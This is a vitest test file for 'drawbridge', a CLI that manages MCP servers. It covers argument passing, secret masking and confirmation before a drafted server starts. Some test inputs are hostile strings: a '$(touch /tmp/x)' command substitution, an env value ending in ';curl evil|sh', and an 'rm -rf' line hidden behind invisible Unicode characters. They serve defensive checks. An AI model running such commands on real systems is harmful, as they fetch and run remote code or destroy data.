import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { json, startHarness } from '../../testing/harness.ts'

let h: Awaited<ReturnType<typeof startHarness>>
beforeAll(async () => {
  h = await startHarness()
})
afterAll(() => h.stop())
beforeEach(() => h.forget())

describe('servers', () => {
  it('shows what their programs take of this computer', async () => {
    await h.drawbridge('server', 'add', 'Busy', '--', 'node')
    const found = json(await h.drawbridge('server', 'use', '--json'))
    expect(found.at(-1)).toMatchObject({ programs: 2, memory: 84_000_000, cpu: 0.03 })
    expect((await h.drawbridge('server', 'use')).out).toMatch(/ {2}2 +84 MB +3 %/)
    await h.drawbridge('server', 'remove', 'Busy')
  })

  it('passes everything after -- on as it stands', async () => {
    const result = await h.drawbridge(
      ...['server', 'add', 'Files', '--env', 'A=1=2', '--env', 'FROM_HERE', '--json', '--'],
      ...[
        'npx',
        '-y',
        '--data',
        'x',
        '--json',
        '--env',
        'B=2',
        '--',
        '--help',
        '$(touch /tmp/x)',
        'two words',
        '',
      ],
    )
    expect(result.code).toBe(0)
    expect(json(result)).toMatchObject({ name: 'Files', state: 'running', env: ['A', 'FROM_HERE'] })
    expect(h.last('servers.add')).toEqual({
      kind: 'stdio',
      name: 'Files',
      command: 'npx',
      args: [
        '-y',
        '--data',
        'x',
        '--json',
        '--env',
        'B=2',
        '--',
        '--help',
        '$(touch /tmp/x)',
        'two words',
        '',
      ],
      cwd: '/home/ada',
      env: { A: '1=2', FROM_HERE: 'value from here' },
      timeout: 30_000,
    })
  })

  it('names what a server has and is not offered, and why', async () => {
    await h.drawbridge('server', 'add', 'Odd', '--', 'odd')
    expect((await h.drawbridge('server', 'show', 'Odd')).out).not.toContain('Not offered')
    h.state.servers[0]!.leftOut = [
      { kind: 'tool', name: 'slow\u202e', why: 'it can be run as a task only' },
      { kind: 'list', name: 'prompts', why: 'the server said: “broken”' },
    ]
    const { out } = await h.drawbridge('server', 'show', 'Odd')
    expect(out).toContain(
      'Not offered, though the server lists them:\n  tool slow⟨U+202E⟩: it can be run as a task only\n  all prompts: the server said: “broken”',
    )
    expect(json(await h.drawbridge('server', 'show', 'Odd', '--json')).leftOut).toHaveLength(2)
  })

  it('starts the server in the folder where the command is typed', async () => {
    await h.drawbridge('server', 'add', 'mine', '--', './server.mjs', './data')
    expect(h.last('servers.add')).toMatchObject({
      command: './server.mjs',
      args: ['./data'],
      cwd: '/home/ada',
    })
  })

  it('also when `npm run` went to the folder of its package first', async () => {
    const at = { INIT_CWD: '/home/ada/elsewhere', npm_package_json: '/home/ada/package.json' }
    h.env = at
    await h.drawbridge('server', 'add', 'mine', '--', './server.mjs')
    expect(h.last('servers.add')).toMatchObject({ cwd: '/home/ada/elsewhere' })
    await h.drawbridge('server', 'add', 'other', '--folder', 'notes', '--', './server.mjs')
    expect(h.last('servers.add')).toMatchObject({ cwd: '/home/ada/elsewhere/notes' })
    await h.drawbridge('server', 'update', 'mine', '--folder', 'x')
    expect(h.last('servers.edit')).toMatchObject({ cwd: '/home/ada/elsewhere/x' })
    // Inherited from a program that npm runs in another folder: it says nothing of this one.
    h.env = { ...at, npm_package_json: '/srv/app/package.json' }
    await h.drawbridge('server', 'add', 'third', '--', './server.mjs')
    expect(h.last('servers.add')).toMatchObject({ cwd: '/home/ada' })
  })

  it('says how long a first start may take, as the page does, and what it waits for', async () => {
    const adding = h.drawbridge('server', 'add', 'Slow', '--', 'npx', 'thing')
    await expect.poll(() => h.state.servers.length).toBe(1)
    h.state.servers[0]!.state = 'downloading'
    const { err, out } = await adding
    expect(err).toContain(
      'The first time its program may have to be downloaded, which may take up to ten minutes.',
    )
    expect(out).toContain('is running')
  })

  it('gives its start a limit of its own', async () => {
    await h.drawbridge('server', 'add', 'Slow', '--start-timeout', '90', '--', 'npx', 'thing')
    expect(h.last('servers.add')).toMatchObject({ timeout: 30_000, startTimeout: 90_000 })
    expect((await h.drawbridge('server', 'show', 'Slow')).out).toMatch(/^Start limit +90 s$/m)
    await h.drawbridge('server', 'update', 'Slow', '--start-timeout', '120')
    expect(h.last('servers.update')).toMatchObject({ startTimeout: 120_000 })
    await h.drawbridge('server', 'add', 'Far', '--url', 'https://a.example', '--start-timeout', '45')
    expect(h.last('servers.add')).toMatchObject({ kind: 'http', startTimeout: 45_000 })
    expect((await h.drawbridge('server', 'add', 'x', '--start-timeout', '601', '--', 'y')).code).toBe(2)
  })

  it('keeps one to its own folder when asked, and says so', async () => {
    await h.drawbridge('server', 'add', 'Own', '--only-own-folder', '--', 'npx', '-y', 'thing')
    expect(h.last('servers.add')).toEqual({
      ...{ kind: 'stdio', name: 'Own', command: 'npx', args: ['-y', 'thing'], env: {} },
      ...{ timeout: 30_000, confined: true },
    })
    expect((await h.drawbridge('server', 'show', 'Own')).out).toMatch(/^Reaches +only that folder$/m)
    await h.drawbridge('server', 'add', 'Other', '--only-own-folder', '--folder', 'notes', '--', 'npx')
    expect(h.last('servers.add')).toMatchObject({ confined: true, cwd: '/home/ada/notes' })
    await h.drawbridge('server', 'update', 'Own', '--no-only-own-folder')
    expect(h.last('servers.edit')).toMatchObject({ confined: false, command: 'npx', args: ['-y', 'thing'] })
    const no = await h.drawbridge('server', 'add', 'Far', '--only-own-folder', '--url', 'https://a.example')
    expect(no.code).toBe(2)
  })

  it('shows long values of a draft whole, however narrow the terminal is', async () => {
    const value = `${'harmless '.repeat(2_000)};curl evil|sh`
    await h.host.dispatch('servers.draft', {
      kind: 'stdio',
      name: 'Long',
      command: 'npx',
      env: { A_KEY: value },
    })
    expect((await h.drawbridge('server', 'start', 'Long')).err).toContain(
      `"A_KEY" = ${JSON.stringify(value)}`,
    )
    expect((await h.drawbridge('server', 'show', 'Long')).out).toContain(JSON.stringify(value))
  })

  it('adds one by its address, with headers', async () => {
    const result = await h.drawbridge(
      ...[
        'server',
        'add',
        'remote',
        '--url',
        'https://mcp.example/mcp',
        '--header',
        'Authorization: Bearer a:b',
      ],
      ...['--header', 'X-Tenant:7'],
    )
    expect(result).toMatchObject({ code: 0, out: '“remote” is running and offers 3 tools.' })
    expect(h.last('servers.add')).toEqual({
      kind: 'http',
      name: 'remote',
      url: 'https://mcp.example/mcp',
      headers: { Authorization: 'Bearer a:b', 'X-Tenant': '7' },
      timeout: 30_000,
    })
  })

  it.each([
    [['x']],
    [['x', '--url', 'https://a.example', '--', 'npx']],
    [['x', '--url', 'https://a.example', '--env', 'K=canary-value']],
    [['x', '--header', 'K: canary-value', '--', 'npx']],
    [['x', '--env', '=canary-value', '--', 'npx']],
    [['x', '--env', 'bad name=canary-value', '--', 'npx']],
    [['x', '--env', 'NOT_SET_ANYWHERE', '--', 'npx']],
    [['x', '--url', 'https://a.example', '--header', 'bad name: canary-value']],
    [['x', '--url', 'https://a.example', '--header', 'no-colon-canary-value']],
    [['x', '--sse', '--', 'npx']],
    [['x', '--client-id', 'c', '--', 'npx']],
    [['x', '--url', 'https://a.example', '--scope', 'read']],
    [['x', '--url', 'https://a.example', '--client-id', 'c', '--client-secret-env', 'NOT_SET_ANYWHERE']],
    [['x', '--url', 'https://a.example', '--timeout', '0']],
    [['x', '--url', 'https://a.example', '--timeout', '601']],
    [['x', '--url', 'https://a.example', '--timeout', '1.5']],
    [['x', 'npx', '-y', 'package']],
    [[]],
  ])('refuses %j as wrongly written, without repeating values', async (args) => {
    const result = await h.drawbridge('server', 'add', ...args)
    expect(result.code).toBe(2)
    expect(result.err.split('\n').length).toBeGreaterThanOrEqual(2)
    expect(result.err + result.out).not.toContain('canary-value')
    expect(h.state.servers).toEqual([])
  })

  it('says why a server did not start, with its last words, and exit code 1', async () => {
    const result = await h.drawbridge('server', 'add', 'bad one', '--', 'nothing')
    expect(result.code).toBe(1)
    expect(result.err).toContain('It stopped at once.')
    expect(result.err).toContain('Check the command.')
    expect(result.err).toContain('line one')
    const listed = await h.drawbridge('server', 'list')
    expect(listed.out).toMatch(/^NAME +STATE +TOOLS +STARTED WITH\nbad one +failed +0 +nothing\n/)
    expect(listed.out).toContain('Check the command.')
  })

  it('removes and restarts by name, by id, and not otherwise', async () => {
    await h.drawbridge('server', 'add', 'Files', '--', 'npx')
    expect((await h.drawbridge('server', 'restart', 'files')).code).toBe(0)
    expect((await h.drawbridge('server', 'remove', 'Fil')).code).toBe(4)
    expect((await h.drawbridge('server', 'remove', 'srv_0def')).code).toBe(0)
    const none = await h.drawbridge('server', 'remove', 'Files', '--json')
    expect(none.code).toBe(4)
    expect(json(none).error.code).toBe('server-not-found')
  })
})

describe('how a server is served', () => {
  it('adds one of the older kind, with a client id whose secret stays out of the history', async () => {
    const result = await h.drawbridge(
      ...[
        'server',
        'add',
        'old',
        '--url',
        'https://mcp.example/sse',
        '--sse',
        '--timeout',
        '5',
        '--no-prefix',
      ],
      ...['--client-id', 'me', '--client-secret-env', 'FROM_HERE', '--scope', 'read', '--scope', 'write'],
    )
    expect(result.code).toBe(0)
    expect(h.last('servers.add')).toEqual({
      ...{ kind: 'sse', name: 'old', url: 'https://mcp.example/sse', headers: {}, timeout: 5_000 },
      oauth: { clientId: 'me', clientSecret: 'value from here', scopes: ['read', 'write'] },
    })
    expect(h.last('servers.update')).toEqual({ id: 'srv_0def', prefixed: false })
    expect(result.out + result.err).not.toContain('value from here')
  })
})

describe('a running server', () => {
  it('is stopped, started, checked and shown', async () => {
    await h.drawbridge('server', 'add', 'Files', '--env', 'A=canary-value', '--', 'npx', 'two words')
    expect((await h.drawbridge('server', 'stop', 'Files')).out).toBe('“Files” is stopped.')
    expect((await h.drawbridge('server', 'start', 'files')).out).toBe(
      '“Files” is running and offers 3 tools.',
    )
    expect(h.last('servers.start')).toEqual({ id: 'srv_0def' })
    const good = await h.drawbridge('server', 'check', 'Files')
    expect(good).toMatchObject({ code: 0, out: '“Files” answers. It usually takes 1.3 ms.' })
    const shown = (await h.drawbridge('server', 'show', 'Files')).out
    expect(shown).toMatch(/^Command +"npx" "two words"$/m)
    expect(shown).toMatch(/^Variables +A$/m)
    expect(shown).toMatch(/^Tool names +files__…$/m)
    expect(shown).not.toContain('canary-value')
    expect((await h.drawbridge('server', 'start', 'nobody')).code).toBe(4)
  })

  it('that does not answer is said to, with exit code 1, and its lines can be read', async () => {
    await h.drawbridge('server', 'add', 'bad', '--', 'npx')
    const bad = await h.drawbridge('server', 'check', 'bad')
    expect(bad.code).toBe(1)
    expect(bad.out).toContain('did not answer within 5 seconds')
    expect((await h.drawbridge('server', 'logs', 'bad')).out).toBe('line one')
    expect(json(await h.drawbridge('server', 'logs', 'bad', '--json'))).toEqual({ lines: ['line one'] })
  })
})

describe('a draft', () => {
  const draft = async (input: object) => {
    await h.host.dispatch('servers.draft', { kind: 'stdio', name: 'New', command: '/bin/sh', ...input })
    return h.state.servers[0]!
  }

  it('is shown exactly as it would run, and started only after a yes', async () => {
    const hidden = 'safe\u202e\u001b[2K\u200b\u0000.js\nrm -rf "x"'
    await draft({ args: ['-c', hidden, ''], env: { API_KEY: 'canary-value', PS4: hidden }, cwd: '/tmp/a b' })
    h.answers.push(false)
    const no = await h.drawbridge('server', 'start', 'New')
    expect(no).toMatchObject({ code: 5, out: 'It was not started.' })
    expect(no.err.split('\n')).toEqual([
      'Once started, "New"',
      '  runs the command   "/bin/sh"',
      '  with argument 1    "-c"',
      '  with argument 2    "safe\\u202e\\u001b[2K\\u200b\\u0000.js\\nrm -rf \\"x\\""',
      '  with argument 3    ""',
      '  in the folder      "/tmp/a b"',
      '  with the variable  "API_KEY" = •••••• (hidden)',
      '  with the variable  "PS4" = "safe\\u202e\\u001b[2K\\u200b\\u0000.js\\nrm -rf \\"x\\""',
    ])
    expect(h.last('servers.start')).toBeUndefined()
    h.answers.push(true)
    const yes = await h.drawbridge('server', 'start', 'New')
    expect(yes).toMatchObject({ code: 0, out: '“New” is running and offers 3 tools.' })
    expect(h.last('servers.start')).toEqual({ id: 'srv_0def', seen: 'fingerprint of New' })
    expect(no.err + yes.err).not.toContain('canary-value')
  })

  it('is not started where nobody can be asked, but with --yes', async () => {
    await draft({})
    for (const json of [[], ['--json']]) {
      const result = await h.drawbridge('server', 'start', 'New', ...json)
      expect(result.code).toBe(5)
      expect(result.err).toContain('runs the command   "/bin/sh"')
      expect(result.err).toContain('drawbridge server start new --yes')
    }
    // not even by a person at the terminal, when a program reads the answer
    h.answers.push(true)
    expect((await h.drawbridge('server', 'start', 'New', '--json')).code).toBe(5)
    expect(h.last('servers.start')).toBeUndefined()
    const started = await h.drawbridge('server', 'start', 'New', '--yes', '--json')
    expect(json(started)).toMatchObject({ name: 'New', state: 'running' })
    expect(started.err).toContain('runs the command   "/bin/sh"')
  })

  it('that is changed while it is looked at is refused', async () => {
    const server = await draft({})
    h.answers.push(true)
    h.beforeAnswer = () => {
      server.fingerprint = 'another one'
    }
    const result = await h.drawbridge('server', 'start', 'New')
    expect(h.questions).toEqual(['Start it? [y/N] '])
    expect(result.code).toBe(5)
    expect(h.last('servers.start')).toEqual({ id: 'srv_0def', seen: 'fingerprint of New' })
    expect(server.state).toBe('draft')
  })

  it('at an address shows where it would connect, with what and as whom', async () => {
    await h.host.dispatch('servers.draft', {
      ...{
        kind: 'http',
        name: 'Far',
        url: 'https://mcp.example/mcp',
        headers: { 'X-Key': 'canary-value', 'X-To': 'other/place' },
      },
      oauth: { clientId: 'somebody' },
    })
    const result = await h.drawbridge('server', 'start', 'far')
    expect(result.err).toContain('  connects to        "https://mcp.example/mcp"')
    expect(result.err).toContain('  with the header    "X-Key" = •••••• (hidden)')
    expect(result.err).toContain('  with the header    "X-To" = "other/place"')
    expect(result.err).toContain('  signs in as client "somebody"')
    expect(result.err).not.toContain('canary-value')
  })
})

describe('signing in to a server', () => {
  const far = (name: string) =>
    h.host.dispatch('servers.add', { kind: 'http', name, url: 'https://mcp.example/mcp' })
  const page = 'https://sign-in.example/authorize?x=1'

  it('prints the page to open and waits until it is done', async () => {
    await far('Far')
    const result = await h.drawbridge('server', 'sign-in', 'Far')
    expect(result).toMatchObject({ code: 0, out: 'Drawbridge is signed in to “Far”.' })
    expect(result.err.split('\n')).toContain(page)
    expect((await h.drawbridge('server', 'show', 'Far')).out).toMatch(/^Sign-in +signed-in, https:/m)
    expect((await h.drawbridge('server', 'sign-out', 'Far')).out).toContain('signed out')
    expect(h.state.servers[0]!.signIn.state).toBe('none')
  })

  it('need not be waited for', async () => {
    await far('Far')
    const result = await h.drawbridge('server', 'sign-in', 'Far', '--no-wait')
    expect(result).toMatchObject({ code: 0, out: page, err: '' })
    const machine = await h.drawbridge('server', 'sign-in', 'Far', '--no-wait', '--json')
    expect(json(machine).signIn).toMatchObject({ state: 'waiting', url: page })
  })

  it('says why it did not work', async () => {
    await far('bad one')
    const result = await h.drawbridge('server', 'sign-in', 'bad one')
    expect(result.code).toBe(1)
    expect(result.err).toContain('The page said no.')
    expect(result.err).toContain('Ask whoever runs it.')
  })
})
